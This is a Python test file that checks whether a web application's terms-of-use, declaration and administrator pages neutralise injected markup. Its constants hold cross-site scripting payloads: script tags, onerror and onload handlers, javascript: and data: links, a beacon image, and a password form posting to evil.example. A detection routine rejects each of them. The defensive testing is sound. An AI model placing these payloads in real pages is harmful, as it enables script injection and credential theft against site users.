"""Attack: terms of use, demands or declarations whose text runs in the page of somebody else, or tells another host.

Who administers one project writes what all its readers see before anything else, and what a reader declares is read by
administrators. Neither may put a tag, a script, an address that runs or a picture into the other's page.
"""

from html.parser import HTMLParser

import pytest

from tests.console.declaring import declare, demand, write_terms
from tests.console.pages import ADMIN, ANALYST, sign_in, submit
from tests.site import Client

MARKUP = "\"'><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></textarea></select><b id=evil>"
TERMS = f"""# {MARKUP}

{MARKUP} <iframe src="https://evil.example"></iframe>

[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,x) [d](//evil.example) [e](\tjavascript:x)

![beacon](https://evil.example/pixel.png) <javascript:alert(1)> <style>*{{display:none}}</style>

[f]: vbscript:x "{MARKUP}"

[f] <form action="https://evil.example"><input name="password"></form>

|a|
|:-:|
|<b onclick=x>y|
"""
PAGES = ("/home/login-declare.view", "/home/admin-termsOfUse.view", "/home/admin-termsVersion.view?version=1")


class Tags(HTMLParser):
    """Collects all tags of a page."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def check(html):
    """Find nothing in a page that is not our own."""
    scripts = []
    for tag, attributes in Tags(html).found:
        assert tag not in {"iframe", "style", "object", "embed", "base"}
        assert not [name for name in attributes if name.startswith("on") or name in {"style", "srcdoc", "formaction"}]
        assert attributes.get("id") != "evil"
        for name in ("src", "href", "action"):
            address = (attributes.get(name) or "").strip().lower()
            assert not address.startswith(("javascript:", "data:", "vbscript:", "//", "https://evil"))
        scripts += [attributes] if tag == "script" else []
    assert [each["src"].startswith("/labkey/") for each in scripts] == [True]


@pytest.fixture
def administrator(client, admin):
    sign_in(client, ADMIN)
    return client


@pytest.mark.parametrize("page", PAGES)
def test_terms_of_use_run_nothing_wherever_they_are_shown(site, administrator, page):
    write_terms(site, TERMS, "/home")
    check(administrator.get(page).text)


def test_a_preview_and_a_comparison_run_nothing(site, administrator):
    write_terms(site, "Be kind.", "/home")
    write_terms(site, TERMS, "/home")
    check(submit(administrator, "/home/admin-termsOfUse.view", text=TERMS, do="preview", seenVersion="2").text)
    check(submit(administrator, "/home/admin-termsOfUse.view", text=TERMS, do="save", seenVersion="1").text)
    check(administrator.get("/home/admin-compareTerms.view?from=1&to=2").text)


def test_what_clients_are_given_of_the_terms_runs_nothing(site, administrator):
    write_terms(site, TERMS, "/home")
    content = administrator.get("/home/login-getTermsOfUseApi.api").json["termsOfUseContent"]
    tags = {tag for tag, _attributes in Tags(content).found}
    assert tags <= {"h1", "h2", "h3", "p", "a", "table", "thead", "tbody", "tr", "th", "td", "code", "em", "strong"}


def test_hints_purposes_and_meanings_stay_text(site, administrator):
    demand(site, "/home", purposes=(MARKUP,), irb_pattern="[\"'<>]", irb_hint=MARKUP, meaning=MARKUP)
    for page in ("/home/login-declare.view", "/home/admin-folderDemands.view"):
        check(administrator.get(page).text)
    check(submit(administrator, "/home/login-declare.view", purpose=MARKUP, irbNumber=MARKUP, phiLevel=MARKUP).text)


def test_what_a_person_declares_stays_text_for_them_and_for_administrators(site, administrator, analyst):
    person = Client(administrator.front)
    sign_in(person, ANALYST)
    demand(site, "/home", irb_pattern="", irb_hint="", meaning="")
    fields = {"purpose": MARKUP, "irbNumber": "<b id=evil>", "phiLevel": "NotPHI", "printedName": MARKUP}
    assert declare(person, **fields).status == 303
    for page in ("/home/project-begin.view", "/home/login-declare.view", "/login-declarations.view"):
        check(person.get(page).text)
    check(administrator.get(f"/user-declarations.view?userId={analyst.id}").text)
